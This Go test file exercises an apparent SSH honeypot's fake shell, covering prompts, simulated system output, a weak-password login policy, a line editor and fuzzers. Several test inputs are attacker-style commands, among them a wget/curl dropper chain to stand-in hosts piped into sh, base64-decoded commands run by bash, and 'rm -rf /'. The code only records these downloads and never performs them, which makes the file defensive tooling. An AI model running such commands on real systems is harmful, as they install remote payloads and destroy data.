package shell

import (
	"net/netip"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

var fixedNow = func() time.Time { return time.Date(2025, 11, 29, 18, 24, 0, 0, time.UTC) }

func newTest(user string) *Session {
	return NewSession(Options{User: user, Hostname: "web01", Now: fixedNow, Client: netip.MustParseAddr("203.0.113.9"), Local: netip.MustParseAddr("192.0.2.10")})
}

func TestPrompt(t *testing.T) {
	s := newTest("root")
	if got := s.Prompt(); got != "root@web01:~# " {
		t.Fatalf("root prompt %q", got)
	}
	s.Run("cd /etc")
	if got := s.Prompt(); got != "root@web01:/etc# " {
		t.Fatalf("prompt in /etc %q", got)
	}
	u := newTest("admin")
	if got := u.Prompt(); got != "admin@web01:~$ " {
		t.Fatalf("user prompt %q", got)
	}
	u.Run("mkdir x; cd x")
	if got := u.Prompt(); got != "admin@web01:~/x$ " {
		t.Fatalf("user prompt in subdir %q", got)
	}
	if got := NewSession(Options{User: "bad\x1b[31mname"}).Prompt(); got != "debian@debian:~$ " {
		t.Fatalf("odd user name prompt %q", got)
	}
}

func TestCommands(t *testing.T) {
	cases := []struct {
		user, line string
		want       []string // substrings of the output
		status     int
	}{
		{"root", "pwd", []string{"/root\n"}, 0},
		{"root", "whoami", []string{"root\n"}, 0},
		{"root", "id", []string{"uid=0(root) gid=0(root) groups=0(root)\n"}, 0},
		{"admin", "id", []string{"uid=1001(admin) gid=1001(admin)"}, 0},
		{"admin", "whoami; pwd", []string{"admin\n/home/admin\n"}, 0},
		{"root", "uname", []string{"Linux\n"}, 0},
		{"root", "uname -a", []string{"Linux web01 6.1.0-23-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.99-1 (2024-07-15) x86_64 GNU/Linux\n"}, 0},
		{"root", "uname -rm", []string{"6.1.0-23-amd64 x86_64\n"}, 0},
		{"root", "uname -z", []string{"uname: invalid option -- 'z'"}, 1},
		{"root", "ls /", []string{"bin   etc         initrd.img.old  lost+found  opt   run   sys  var\n"}, 0},
		{"root", "ls / | head -3", []string{"bin\nboot\ndev\n"}, 0},
		{"root", "ls -la", []string{"total ", "-rw-r--r--  1 root root  571 ", ".bashrc", "drwx------  2 root root 4096 ", ".ssh", " .\n", " ..\n"}, 0},
		{"root", "ls -l /etc/passwd", []string{"-rw-r--r-- 1 root root "}, 0},
		{"root", "ls /nope", []string{"ls: cannot access '/nope': No such file or directory\n"}, 2},
		{"admin", "ls /root", []string{"ls: cannot open directory '/root': Permission denied\n"}, 2},
		{"root", "cd /var/log; pwd; ls", []string{"/var/log\n", "auth.log", "dpkg.log"}, 0},
		{"root", "cd /nope", []string{"-bash: cd: /nope: No such file or directory\n"}, 1},
		{"root", "cd /etc/passwd", []string{"-bash: cd: /etc/passwd: Not a directory\n"}, 1},
		{"admin", "cd /root", []string{"-bash: cd: /root: Permission denied\n"}, 1},
		{"root", "cat /etc/hostname", []string{"web01\n"}, 0},
		{"root", "cat /etc/os-release", []string{`PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"`}, 0},
		{"root", "cat /etc/issue", []string{"Debian GNU/Linux 12 \\n \\l"}, 0},
		{"root", "cat /proc/cpuinfo", []string{"model name\t: Intel(R) Xeon(R)"}, 0},
		{"root", "cat /etc/passwd", []string{"root:x:0:0:root:/root:/bin/bash\n", "sshd:x:101"}, 0},
		{"admin", "cat /etc/passwd", []string{"admin:x:1001:1001:,,,:/home/admin:/bin/bash\n"}, 0},
		{"admin", "cat /etc/shadow", []string{"cat: /etc/shadow: Permission denied\n"}, 1},
		{"root", "cat /etc/shadow", []string{"root:$y$"}, 0},
		{"root", "cat /etc", []string{"cat: /etc: Is a directory\n"}, 1},
		{"root", "cat nothing", []string{"cat: nothing: No such file or directory\n"}, 1},
		{"root", "echo hello   world", []string{"hello world\n"}, 0},
		{"root", `echo "a  b" 'c $HOME' $HOME ${USER}`, []string{"a  b c $HOME /root root\n"}, 0},
		{"root", `echo -e "a\tb\x41\n"`, []string{"a\tbA\n\n"}, 0},
		{"root", "echo -n x", []string{"x"}, 0},
		{"root", "false; echo $?", []string{"1\n"}, 0},
		{"root", "ps", []string{"    PID TTY          TIME CMD\n", "bash\n", "ps\n"}, 0},
		{"root", "ps aux", []string{"USER         PID", "/sbin/init", "sshd: root@pts/0"}, 0},
		{"root", "hostname", []string{"web01\n"}, 0},
		{"root", "w", []string{" up 12 days, 10:49,  1 user,  load average:", "root     pts/0    203.0.113.9"}, 0},
		{"root", "uptime", []string{"18:24:00 up 12 days, 10:49,  1 user"}, 0},
		{"root", "free", []string{"Mem:", "4020456", "Swap:"}, 0},
		{"root", "free -h", []string{"3.8Gi"}, 0},
		{"root", "df -h", []string{"/dev/sda1        29G"}, 0},
		{"root", "ifconfig", []string{"inet 192.0.2.10  netmask 255.255.255.0  broadcast 192.0.2.255"}, 0},
		{"admin", "ifconfig", []string{"-bash: ifconfig: command not found\n"}, 127},
		{"root", "ip a", []string{"inet 192.0.2.10/24 brd 192.0.2.255 scope global dynamic eth0"}, 0},
		{"root", "ip r", []string{"192.0.2.0/24 dev eth0 proto kernel scope link src 192.0.2.10 \n"}, 0},
		{"root", "foo", []string{"-bash: foo: command not found\n"}, 127},
		{"root", "busybox ECCHI", []string{"-bash: busybox: command not found\n"}, 127},
		{"root", "./run.sh", []string{"-bash: ./run.sh: No such file or directory\n"}, 127},
		{"root", "/bin/uname -s", []string{"Linux\n"}, 0},
		{"root", "true && echo yes || echo no", []string{"yes\n"}, 0},
		{"root", "false && echo yes || echo no", []string{"no\n"}, 0},
		{"root", "false && echo yes", nil, 1},
		{"root", "cat /etc/passwd | grep sshd | wc -l", []string{"1\n"}, 0},
		{"root", "cat /etc/passwd | nosuch", []string{"-bash: nosuch: command not found\n"}, 127},
		{"root", "echo hi > /tmp/f; cat /tmp/f; echo more >> /tmp/f; cat /tmp/f", []string{"hi\nhi\nmore\n"}, 0},
		{"root", "echo hi > /nodir/f", []string{"-bash: /nodir/f: No such file or directory\n"}, 1},
		{"admin", "echo hi > /etc/x", []string{"-bash: /etc/x: Permission denied\n"}, 1},
		{"root", "echo x 2>/dev/null >/dev/null", nil, 0},
		{"root", "cd /tmp; touch a; mkdir d; ls; rm a; ls", []string{"a  d\nd\n"}, 0},
		{"root", "sh -c 'echo inner; whoami'", []string{"inner\nroot\n"}, 0},
		{"root", "echo dW5hbWUgLW0K | base64 -d | bash", []string{"x86_64\n"}, 0},
		{"root", "history", []string{"    1  history\n"}, 0},
		{"root", "which wget ls nope", []string{"/usr/bin/wget\n/usr/bin/ls\n"}, 1},
		{"root", "crontab -l", []string{"no crontab for root\n"}, 1},
		{"root", "ls | | wc", []string{"-bash: syntax error near unexpected token `|'"}, 2},
		{"root", "; ls", []string{"-bash: syntax error near unexpected token `;'"}, 2},
		{"root", "echo a # comment", []string{"a\n"}, 0},
		{"root", "FOO=bar; echo $FOO", []string{"bar\n"}, 0},
	}
	for _, c := range cases {
		s := newTest(c.user)
		r := s.Run(c.line)
		for _, w := range c.want {
			if !strings.Contains(r.Output, w) {
				t.Errorf("%s: %q: output %q lacks %q", c.user, c.line, r.Output, w)
			}
		}
		if c.want == nil && r.Output != "" {
			t.Errorf("%q: want no output, got %q", c.line, r.Output)
		}
		if r.Status != c.status {
			t.Errorf("%q: status %d, want %d (output %q)", c.line, r.Status, c.status, r.Output)
		}
		if r.Exit {
			t.Errorf("%q: exit", c.line)
		}
	}
}

func TestDownloadsRecordedNeverFetched(t *testing.T) {
	s := newTest("root")
	r := s.Run("cd /tmp; wget -q -O x http://203.0.113.50/bins/x86 && chmod +x x && ./x; curl -fsSL https://evil.example/a.sh | sh")
	if want := []string{"http://203.0.113.50/bins/x86", "https://evil.example/a.sh"}; strings.Join(r.Downloads, " ") != strings.Join(want, " ") {
		t.Fatalf("downloads %q, want %q", r.Downloads, want)
	}
	for _, w := range []string{"curl: (6) Could not resolve host: evil.example\n"} {
		if !strings.Contains(r.Output, w) {
			t.Errorf("output %q lacks %q", r.Output, w)
		}
	}
	if strings.Contains(r.Output, "Permission denied") || strings.Contains(r.Output, "x: No such") == false {
		// wget failed, so && stopped the chain: nothing about ./x at all
		if strings.Contains(r.Output, "./x") {
			t.Errorf("chain after failed wget ran: %q", r.Output)
		}
	}
	r = s.Run("wget evil.example/y")
	if !strings.Contains(r.Output, "Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.\n") || len(r.Downloads) != 1 {
		t.Fatalf("wget by name: %q %q", r.Output, r.Downloads)
	}
	r = s.Run("wget")
	if !strings.Contains(r.Output, "wget: missing URL") || len(r.Downloads) != 0 {
		t.Fatalf("wget without URL: %q", r.Output)
	}
}

func TestExitAndLogout(t *testing.T) {
	for _, l := range []string{"exit", "logout", "ls; exit; echo after", "exit 3"} {
		s := newTest("root")
		r := s.Run(l)
		if !r.Exit || strings.Contains(r.Output, "after") {
			t.Errorf("%q: exit %v output %q", l, r.Exit, r.Output)
		}
	}
}

func TestExecErrorPrefix(t *testing.T) {
	s := NewSession(Options{Exec: true, Now: fixedNow})
	if r := s.Run("nope"); r.Output != "bash: line 1: nope: command not found\n" {
		t.Fatalf("exec error %q", r.Output)
	}
}

func TestCdDashAndHome(t *testing.T) {
	s := newTest("root")
	out := s.Run("cd /etc; cd /tmp; cd -; pwd; cd; pwd; cd ~/.ssh; pwd").Output
	if out != "/etc\n/etc\n/root\n/root/.ssh\n" {
		t.Fatalf("cd sequence %q", out)
	}
}

func TestBanner(t *testing.T) {
	b := newTest("root").Banner()
	for _, w := range []string{"Linux web01 6.1.0-23-amd64", "The programs included with the Debian GNU/Linux system are free software;", "Last login: "} {
		if !strings.Contains(b, w) {
			t.Errorf("banner lacks %q", w)
		}
	}
}

func TestHistoryBounded(t *testing.T) {
	s := newTest("root")
	long := strings.Repeat("a", 5000)
	for i := 0; i < 3*maxHistory; i++ {
		s.Run("echo " + long)
	}
	h := s.History()
	if len(h) != maxHistory {
		t.Fatalf("history %d entries", len(h))
	}
	for _, l := range h {
		if len(l) > maxHistoryLine {
			t.Fatalf("history line %d bytes", len(l))
		}
	}
}

func TestWritesBounded(t *testing.T) {
	s := newTest("root")
	chunk := strings.Repeat("x", 60000)
	for i := 0; i < 20; i++ {
		s.Run("echo " + chunk + " >> /tmp/big")
	}
	for i := 0; i < maxCreated+50; i++ {
		s.Run("touch /tmp/f" + strings.Repeat("1", i%7) + string(rune('a'+i%26)) + string(rune('a'+i/26)))
	}
	if s.written > maxWritten || s.created > maxCreated {
		t.Fatalf("written %d created %d", s.written, s.created)
	}
}

// runRes feeds bytes through an Editor and collects lines and echo.
func feed(e *Editor, in string) (echo string, evs []Event) {
	var buf []byte
	for i := 0; i < len(in); i++ {
		var ev Event
		buf, ev = e.Feed(in[i], buf)
		if ev.Kind != None {
			evs = append(evs, ev)
		}
	}
	return string(buf), evs
}

func TestEditor(t *testing.T) {
	e := &Editor{Echo: true}
	echo, evs := feed(e, "lx\x7fs -l\r")
	if len(evs) != 1 || evs[0].Kind != Line || evs[0].Line != "ls -l" {
		t.Fatalf("events %+v", evs)
	}
	if echo != "lx\b \bs -l\r\n" {
		t.Fatalf("echo %q", echo)
	}
	// arrow keys, Alt-x, F5 are swallowed; CRLF and CR NUL give one line each
	_, evs = feed(e, "a\x1b[A\x1b[1;5Cb\x1bOPc\x1b[15~d\x1bxe\r\n")
	if len(evs) != 1 || evs[0].Line != "abcde" {
		t.Fatalf("escape handling %+v", evs)
	}
	_, evs = feed(e, "one\r\x00two\ntwo2\r\n")
	if len(evs) != 3 || evs[0].Line != "one" || evs[1].Line != "two" || evs[2].Line != "two2" {
		t.Fatalf("line ends %+v", evs)
	}
	// Ctrl-C drops the line, Ctrl-D ends only on an empty line
	echo, evs = feed(e, "abc\x03")
	if len(evs) != 1 || evs[0].Kind != Interrupt || echo != "abc^C\r\n" {
		t.Fatalf("ctrl-c %+v %q", evs, echo)
	}
	_, evs = feed(e, "x\x04\x7f\x04")
	if len(evs) != 1 || evs[0].Kind != EOF {
		t.Fatalf("ctrl-d %+v", evs)
	}
	// Ctrl-U, Ctrl-W
	_, evs = feed(e, "rm -rf /\x15ls /tmp\x17etc\r")
	if len(evs) != 1 || evs[0].Line != "ls etc" {
		t.Fatalf("ctrl-u/w %+v", evs)
	}
	// backspace removes whole UTF-8 characters
	_, evs = feed(e, "ä€\x7f\r")
	if len(evs) != 1 || evs[0].Line != "ä" {
		t.Fatalf("utf-8 backspace %+v", evs)
	}
	// no echo (password entry)
	p := &Editor{}
	echo, evs = feed(p, "secret\r")
	if echo != "" || evs[0].Line != "secret" {
		t.Fatalf("no-echo %q %+v", echo, evs)
	}
	// the cap
	c := &Editor{Max: 8, Echo: true}
	echo, evs = feed(c, strings.Repeat("y", 100)+"\r")
	if evs[0].Line != "yyyyyyyy" || echo != "yyyyyyyy\r\n" {
		t.Fatalf("cap %q %q", evs[0].Line, echo)
	}
}

func TestPolicy(t *testing.T) {
	a := netip.MustParseAddr("198.51.100.1")
	b := netip.MustParseAddr("198.51.100.2")
	p := NewPolicy(DefaultAccept, 0)
	if !p.Check(a, "root", "123456") || !p.Check(a, "root", "toor") || p.Check(a, "root", "x") || p.Check(a, "admin", "123456") {
		t.Fatal("default list")
	}
	p = NewPolicy([]string{"admin:pa:ss", "guest:*", "*:letmein"}, 3)
	if !p.Check(a, "admin", "pa:ss") || !p.Check(a, "guest", "anything") || !p.Check(a, "x", "letmein") {
		t.Fatal("colons and wildcards")
	}
	for i := 0; i < 3; i++ {
		if p.Check(a, "root", "wrong") {
			t.Fatalf("accepted attempt %d", i+1)
		}
	}
	if !p.Check(a, "root", "wrong4") {
		t.Fatal("not accepted after 3 failures")
	}
	if p.Check(b, "root", "wrong") {
		t.Fatal("other source accepted")
	}
	now := time.Now()
	p.now = func() time.Time { return now.Add(2 * failWindow) }
	if p.Check(a, "root", "x") {
		t.Fatal("failures did not expire")
	}
	if m, _ := ValidateAccept([]string{"nocolon"}, 0); m == "" {
		t.Fatal("bad entry passed")
	}
	if _, m := ValidateAccept(nil, -1); m == "" {
		t.Fatal("negative after passed")
	}
	if m1, m2 := ValidateAccept(DefaultAccept, 5); m1 != "" || m2 != "" {
		t.Fatal("defaults invalid")
	}
}

func TestPolicyBounded(t *testing.T) {
	p := NewPolicy(nil, 5)
	for i := 0; i < 3*maxFailAddrs; i++ {
		p.Check(netip.AddrFrom4([4]byte{10, byte(i >> 16), byte(i >> 8), byte(i)}), "root", "x")
	}
	if len(p.fails) > maxFailAddrs {
		t.Fatalf("%d addresses kept", len(p.fails))
	}
}

// Seed corpus for the fuzzers, run as ordinary tests.
var lineSeeds = []string{
	"ls -la /; cd /tmp && wget http://1.2.3.4/x -O- | sh",
	"echo \"$(id)\" `uname` ${HOME} $? $$ $# ${UNCLOSED",
	"cat < /etc/passwd > /tmp/x 2>&1 &>> /dev/null 1>&2",
	"'\"\\",
	"a || b && c | d ; e & f",
	"sh -c 'sh -c \"sh -c \\\"sh -c ls\\\"\"'",
	"echo -e '\\x4\\0777\\c' \\",
	"cd ../../../../..; cd ~nope; cd -",
	"ls -l /bin/ /proc /nope /etc/passwd",
	"echo Y2QgL3RtcDsgZWNobyBoaSB8IGJhc2ggfCBiYXNlNjQgLWQ= | base64 -d | bash",
	"\x00\xff\xfe|;&&||",
	"head -n -5 /etc/passwd; tail -99999999999999999999 /etc/passwd",
	"rm -rf / ; mkdir /tmp/a/b; touch /proc/x",
}

func checkRun(t *testing.T, user, line string) {
	s := NewSession(Options{User: user, Now: fixedNow})
	noWait(s)
	r := s.Run(line)
	if len(r.Output) > maxOutput+64<<10 {
		t.Fatalf("output %d bytes", len(r.Output))
	}
	if !utf8.ValidString(s.Prompt()) && utf8.ValidString(user) {
		t.Fatalf("prompt not valid UTF-8")
	}
	s.Run(line) // twice: state left by the first run must be usable
}

func TestRunSeeds(t *testing.T) {
	for _, l := range lineSeeds {
		checkRun(t, "root", l)
		checkRun(t, "admin", l)
	}
}

func FuzzRun(f *testing.F) {
	for _, l := range lineSeeds {
		f.Add("root", l)
	}
	f.Fuzz(func(t *testing.T, user, line string) {
		checkRun(t, user, line)
	})
}

func FuzzParse(f *testing.F) {
	for _, l := range lineSeeds {
		f.Add(l)
	}
	f.Fuzz(func(t *testing.T, line string) {
		prog, err := parseScript(line, true)
		if err == nil && prog == nil && strings.TrimSpace(line) != "" && !strings.HasPrefix(strings.TrimSpace(line), "#") {
			t.Fatalf("%q: no program and no error", line)
		}
	})
}

func FuzzEditor(f *testing.F) {
	f.Add([]byte("ls\x7f\x7f\x7fpwd\r\n\x1b[A\x03\x04"), true)
	f.Add([]byte("\x1b[1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1x\r"), false)
	f.Add([]byte("\xe2\x82\xac\x7f\xe2\x82\r\x00\n"), true)
	f.Fuzz(func(t *testing.T, in []byte, echo bool) {
		e := &Editor{Echo: echo, Max: 64}
		var buf []byte
		for _, b := range in {
			var ev Event
			buf, ev = e.Feed(b, buf[:0])
			if len(buf) > 3*64+8 {
				t.Fatalf("echo of one byte is %d bytes", len(buf))
			}
			if !echo && len(buf) != 0 {
				t.Fatalf("echo while off: %q", buf)
			}
			if ev.Kind == Line && (len(ev.Line) > 64 || strings.ContainsAny(ev.Line, "\r\n\x00\x1b\x7f")) {
				t.Fatalf("line %q", ev.Line)
			}
			if len(e.Pending()) > 64 {
				t.Fatalf("pending %d", len(e.Pending()))
			}
		}
	})
}
